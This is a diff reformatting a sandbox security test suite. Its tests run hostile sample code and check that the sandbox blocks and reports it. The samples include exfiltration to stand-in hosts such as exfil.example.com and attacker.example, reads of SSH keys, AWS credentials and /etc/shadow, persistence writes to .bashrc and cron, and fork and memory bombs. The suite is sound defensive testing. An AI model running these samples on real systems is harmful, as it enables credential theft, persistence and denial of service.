@@ -10,7 +10,14 @@ import uuid
 
 from sandgate.findings import Level, Verdict
 from tests.sandbox.conftest import (
-    CANARY_ENV, CANARY_FILE_TEXT, CANARY_VALUE, assert_host_clean, decision, procs_with, run, with_limits,
+    CANARY_ENV,
+    CANARY_FILE_TEXT,
+    CANARY_VALUE,
+    assert_host_clean,
+    decision,
+    procs_with,
+    run,
+    with_limits,
 )
 
 
@@ -28,7 +35,9 @@ def test_plain_run_is_clean(backend, balanced):
 
 
 def test_socket_exfiltration(backend, balanced):
-    result, findings, rules = run(backend, code("""
+    result, findings, rules = run(
+        backend,
+        code("""
         import socket
         for fam, addr in ((socket.AF_INET, ("1.1.1.1", 443)), (socket.AF_INET6, ("2606:4700::1111", 443))):
             s = socket.socket(fam, socket.SOCK_STREAM)
@@ -42,7 +51,8 @@ def test_socket_exfiltration(backend, balanced):
             u.sendto(b"secret", ("8.8.8.8", 53)); print("SENT")
         except OSError as e:
             print("blocked", e.errno)
-    """))
+    """),
+    )
     assert "CONNECTED" not in result.stdout and "SENT" not in result.stdout
     assert result.stdout.count("blocked") == 3
     hosts = {f.detail("host") for f in findings if f.rule == "network.denied"}
@@ -54,14 +64,17 @@ def test_socket_exfiltration(backend, balanced):
 
 
 def test_http_exfiltration(backend, balanced):
-    result, findings, rules = run(backend, code(f"""
+    result, findings, rules = run(
+        backend,
+        code(f"""
         import os, urllib.request
         try:
             urllib.request.urlopen("http://exfil.example.com/c?d=" + os.environ.get("{CANARY_ENV}", "none"), timeout=1)
             print("SENT")
         except Exception as e:
             print("blocked", type(e).__name__)
-    """))
+    """),
+    )
     assert "SENT" not in result.stdout and "blocked" in result.stdout
     assert "network.denied" in rules
     assert any(f.detail("host") == "exfil.example.com" for f in findings)
@@ -69,7 +82,9 @@ def test_http_exfiltration(backend, balanced):
 
 
 def test_dns_exfiltration(backend, balanced):
-    result, findings, rules = run(backend, code("""
+    result, findings, rules = run(
+        backend,
+        code("""
         import socket
         for name in ("c2VjcmV0.attacker.example", "data.evil.test"):
             try:
@@ -80,7 +95,8 @@ def test_dns_exfiltration(backend, balanced):
             socket.gethostbyname("leak.attacker.example"); print("RESOLVED")
         except OSError:
             print("no dns")
-    """))
+    """),
+    )
     assert "RESOLVED" not in result.stdout and result.stdout.count("no dns") == 3
     hosts = {f.detail("host") for f in findings if f.rule == "network.denied"}
     assert {"c2VjcmV0.attacker.example", "data.evil.test", "leak.attacker.example"} <= hosts
@@ -94,11 +110,13 @@ def test_host_secrets_do_not_enter(backend, balanced, tmp_path, monkeypatch):
     (home / ".aws").mkdir()
     (home / ".aws" / "credentials").write_text(CANARY_FILE_TEXT)
     monkeypatch.setenv("HOME", str(home))
-    result, findings, rules = run(backend, code(f"""
+    result, findings, rules = run(
+        backend,
+        code(f"""
         import os
         print(dict(os.environ))
         print("home", os.path.expanduser("~"))
-        for p in ({str(home / '.ssh' / 'id_rsa')!r}, {str(home / '.aws' / 'credentials')!r},
+        for p in ({str(home / ".ssh" / "id_rsa")!r}, {str(home / ".aws" / "credentials")!r},
                   os.path.expanduser("~/.ssh/id_rsa"), "/root/.ssh/id_rsa", "/root/.aws/credentials",
                   "/etc/shadow", "/proc/1/environ"):
             try:
@@ -106,7 +124,8 @@ def test_host_secrets_do_not_enter(backend, balanced, tmp_path, monkeypatch):
             except OSError as e:
                 print(p, "denied", e.errno)
         print(os.listdir("/"))
-    """))
+    """),
+    )
     out = result.stdout + result.stderr
     assert CANARY_VALUE not in out and CANARY_FILE_TEXT not in out
     assert CANARY_ENV not in out
@@ -125,7 +144,9 @@ def test_writes_outside_scratch_fail(backend, balanced, tmp_path):
     (ws / "app.py").write_text("ORIGINAL = 1\n")
     bashrc = "/root/.bashrc"
     before = open(bashrc, "rb").read() if os.path.exists(bashrc) else None
-    result, findings, rules = run(backend, code("""
+    result, findings, rules = run(
+        backend,
+        code("""
         import os
         for p in (os.path.expanduser("~/.bashrc"), "/root/.bashrc", "/workspace/app.py", "/workspace/new.py",
                   "/etc/cron.d/evil", "/usr/lib/sitecustomize.py"):
@@ -138,7 +159,10 @@ def test_writes_outside_scratch_fail(backend, balanced, tmp_path):
         with open("/tmp/scratch.txt", "w") as f:
             f.write("fine")
         print("scratch ok", open("/tmp/scratch.txt").read())
-    """), workspace=ws, relpath="app.py")
+    """),
+        workspace=ws,
+        relpath="app.py",
+    )
     assert "WROTE" not in result.stdout, result.stdout
     assert "scratch ok fine" in result.stdout
     paths = {f.detail("path") for f in findings if f.rule == "fs.write-outside-scratch"}
@@ -151,7 +175,9 @@ def test_writes_outside_scratch_fail(backend, balanced, tmp_path):
 
 
 def test_docker_socket_is_absent(backend, balanced):
-    result, findings, rules = run(backend, code("""
+    result, findings, rules = run(
+        backend,
+        code("""
         import os, socket
         for p in ("/var/run/docker.sock", "/run/docker.sock"):
             print(p, os.path.exists(p))
@@ -160,7 +186,8 @@ def test_docker_socket_is_absent(backend, balanced):
                 s.connect(p); print("CONNECTED")
             except OSError as e:
                 print("no socket", e.errno)
-    """))
+    """),
+    )
     assert "True" not in result.stdout and "CONNECTED" not in result.stdout
     denied = [f for f in findings if f.rule == "network.denied"]
     assert any(f.detail("family") == "AF_UNIX" and f.detail("host") == "/var/run/docker.sock" for f in denied)
@@ -171,21 +198,29 @@ def test_docker_socket_is_absent(backend, balanced):
 def test_fork_bomb(backend, balanced):
     token = "forkbomb-" + uuid.uuid4().hex
     inner = f"import os,time\\n# {token}\\nwhile 1:\\n try: os.fork()\\n except OSError: time.sleep(0.01)"
-    result, findings, rules = run(backend, code(f"""
+    result, findings, rules = run(
+        backend,
+        code(f"""
         import os
         os.execv("/usr/bin/python3", ["python3", "-c", "{inner}"])
-    """), limits=with_limits(processes=16))
+    """),
+        limits=with_limits(processes=16),
+    )
     assert "limit.processes" in rules, (result, rules)
     assert decision(balanced, findings) == Verdict.REVIEW
     assert_host_clean(backend, token)
 
 
 def test_memory_bomb(backend, balanced):
-    result, findings, rules = run(backend, code("""
+    result, findings, rules = run(
+        backend,
+        code("""
         chunks = []
         while True:
             chunks.append(bytearray(32 * 1024 * 1024))
-    """), limits=with_limits(memory_mb=128))
+    """),
+        limits=with_limits(memory_mb=128),
+    )
     assert result.killed == "memory", result
     assert "limit.memory" in rules
     assert decision(balanced, findings) == Verdict.REVIEW
@@ -208,8 +243,9 @@ def test_cpu_time_limit(backend):
 
 
 def test_output_flood(backend, balanced):
-    result, findings, rules = run(backend, "import sys\nwhile True:\n    sys.stdout.write('A' * 4096)\n",
-                                  limits=with_limits(output_bytes=10000))
+    result, findings, rules = run(
+        backend, "import sys\nwhile True:\n    sys.stdout.write('A' * 4096)\n", limits=with_limits(output_bytes=10000)
+    )
     assert result.output_truncated and result.killed == "output"
     assert len(result.stdout) + len(result.stderr) <= 10000
     assert "limit.output" in rules
@@ -220,7 +256,9 @@ def test_output_flood(backend, balanced):
 def test_double_forking_daemon_dies_with_the_run(backend, balanced):
     token = "daemon-" + uuid.uuid4().hex
     loop = f"import socket,time\\n# {token}\\nwhile 1:\\n try: socket.create_connection(('1.1.1.1',80),1)\\n except OSError: time.sleep(0.1)"
-    result, findings, rules = run(backend, code(f"""
+    result, findings, rules = run(
+        backend,
+        code(f"""
         import os, socket, time
         if os.fork() == 0:
             os.setsid()
@@ -233,7 +271,8 @@ def test_double_forking_daemon_dies_with_the_run(backend, balanced):
             os._exit(0)
         time.sleep(0.5)
         print("parent leaves")
-    """))
+    """),
+    )
     assert "parent leaves" in result.stdout
     assert "process.spawn" in rules
     assert any(f.detail("host") == "203.0.113.7" for f in findings if f.rule == "network.denied")
@@ -242,26 +281,33 @@ def test_double_forking_daemon_dies_with_the_run(backend, balanced):
 
 
 def test_many_open_files(backend, balanced):
-    result, findings, rules = run(backend, "fs = [open('/dev/null') for _ in range(5000)]\n",
-                                  limits=with_limits(open_files=64))
+    result, findings, rules = run(
+        backend, "fs = [open('/dev/null') for _ in range(5000)]\n", limits=with_limits(open_files=64)
+    )
     assert "Too many open files" in result.stderr
     assert "limit.open-files" in rules
     assert decision(balanced, findings) == Verdict.REVIEW
 
 
 def test_big_file_write_is_capped(backend):
-    result, findings, rules = run(backend, code("""
+    result, findings, rules = run(
+        backend,
+        code("""
         with open("/tmp/big", "wb") as f:
             for _ in range(64):
                 f.write(b"x" * (1 << 20))
         print("WROTE ALL")
-    """), limits=with_limits(file_size_mb=2))
+    """),
+        limits=with_limits(file_size_mb=2),
+    )
     assert "WROTE ALL" not in result.stdout
     assert result.exit_code != 0
 
 
 def test_hardening_seen_from_inside(backend):
-    result, _, _ = run(backend, code("""
+    result, _, _ = run(
+        backend,
+        code("""
         import os
         st = open("/proc/self/status").read()
         caps = [l for l in st.splitlines() if l.startswith(("CapEff", "NoNewPrivs"))]
@@ -271,7 +317,8 @@ def test_hardening_seen_from_inside(backend):
             open("/usr/x", "w")
         except OSError as e:
             print("ro", e.errno)
-    """))
+    """),
+    )
     out = result.stdout
     assert out.startswith("65534 65534"), out
     assert "CapEff:\t0000000000000000" in out and "NoNewPrivs:\t1" in out
@@ -279,7 +326,9 @@ def test_hardening_seen_from_inside(backend):
 
 
 def test_dynamic_exec_and_spawn_reported(backend, balanced):
-    result, findings, rules = run(backend, code("""
+    result, findings, rules = run(
+        backend,
+        code("""
         import subprocess
         from dataclasses import dataclass
         @dataclass
@@ -291,7 +340,8 @@ def test_dynamic_exec_and_spawn_reported(backend, balanced):
             subprocess.run(["/bin/sh", "-c", "echo hi"])
         except OSError:
             print("no shell")
-    """))
+    """),
+    )
     assert "exec.dynamic" in rules and "process.spawn" in rules
     spawn = next(f for f in findings if f.rule == "process.spawn")
     assert spawn.detail("argv") == ("/bin/sh", "-c", "echo hi") and spawn.severity == Level.LOW
@@ -322,8 +372,9 @@ def test_workspace_imports_work_read_only(backend, tmp_path):
     (ws / "pkg").mkdir(parents=True)
     (ws / "pkg" / "__init__.py").write_text("")
     (ws / "pkg" / "helpers.py").write_text("def greet():\n    return 'hello from helpers'\n")
-    result, findings, rules = run(backend, "from pkg.helpers import greet\nprint(greet(), __file__)\n",
-                                  workspace=ws, relpath="main.py")
+    result, findings, rules = run(
+        backend, "from pkg.helpers import greet\nprint(greet(), __file__)\n", workspace=ws, relpath="main.py"
+    )
     assert result.stdout == "hello from helpers /workspace/main.py\n", result
     assert rules == set()
 
@@ -349,7 +400,9 @@ def test_a_forged_exit_event_gains_no_time(backend):
     # the exit. The program can forge it (it shares the process): it may then hide what it does
     # next from the report, but never outlives the run's deadline.
     token = "forged-exit-" + uuid.uuid4().hex
-    result, _findings, _rules = run(backend, code(f"""
+    result, _findings, _rules = run(
+        backend,
+        code(f"""
         import json, sys, time
         boot = sys.modules["__main__"]
         line = boot._MARK + json.dumps({{"kind": "exit", "status": 0}}).encode() + b"\\n"
@@ -358,7 +411,9 @@ def test_a_forged_exit_event_gains_no_time(backend):
         sys.stderr.buffer.write(line); sys.stderr.flush()
         # {token}
         time.sleep(60)
-    """), limits=with_limits(wall_time_s=2.0))
+    """),
+        limits=with_limits(wall_time_s=2.0),
+    )
     deadline = time.monotonic() + 2.0 + 8.0  # the wall time, and the engine's time to remove it
     while procs_with(token) and time.monotonic() < deadline:
         time.sleep(0.1)
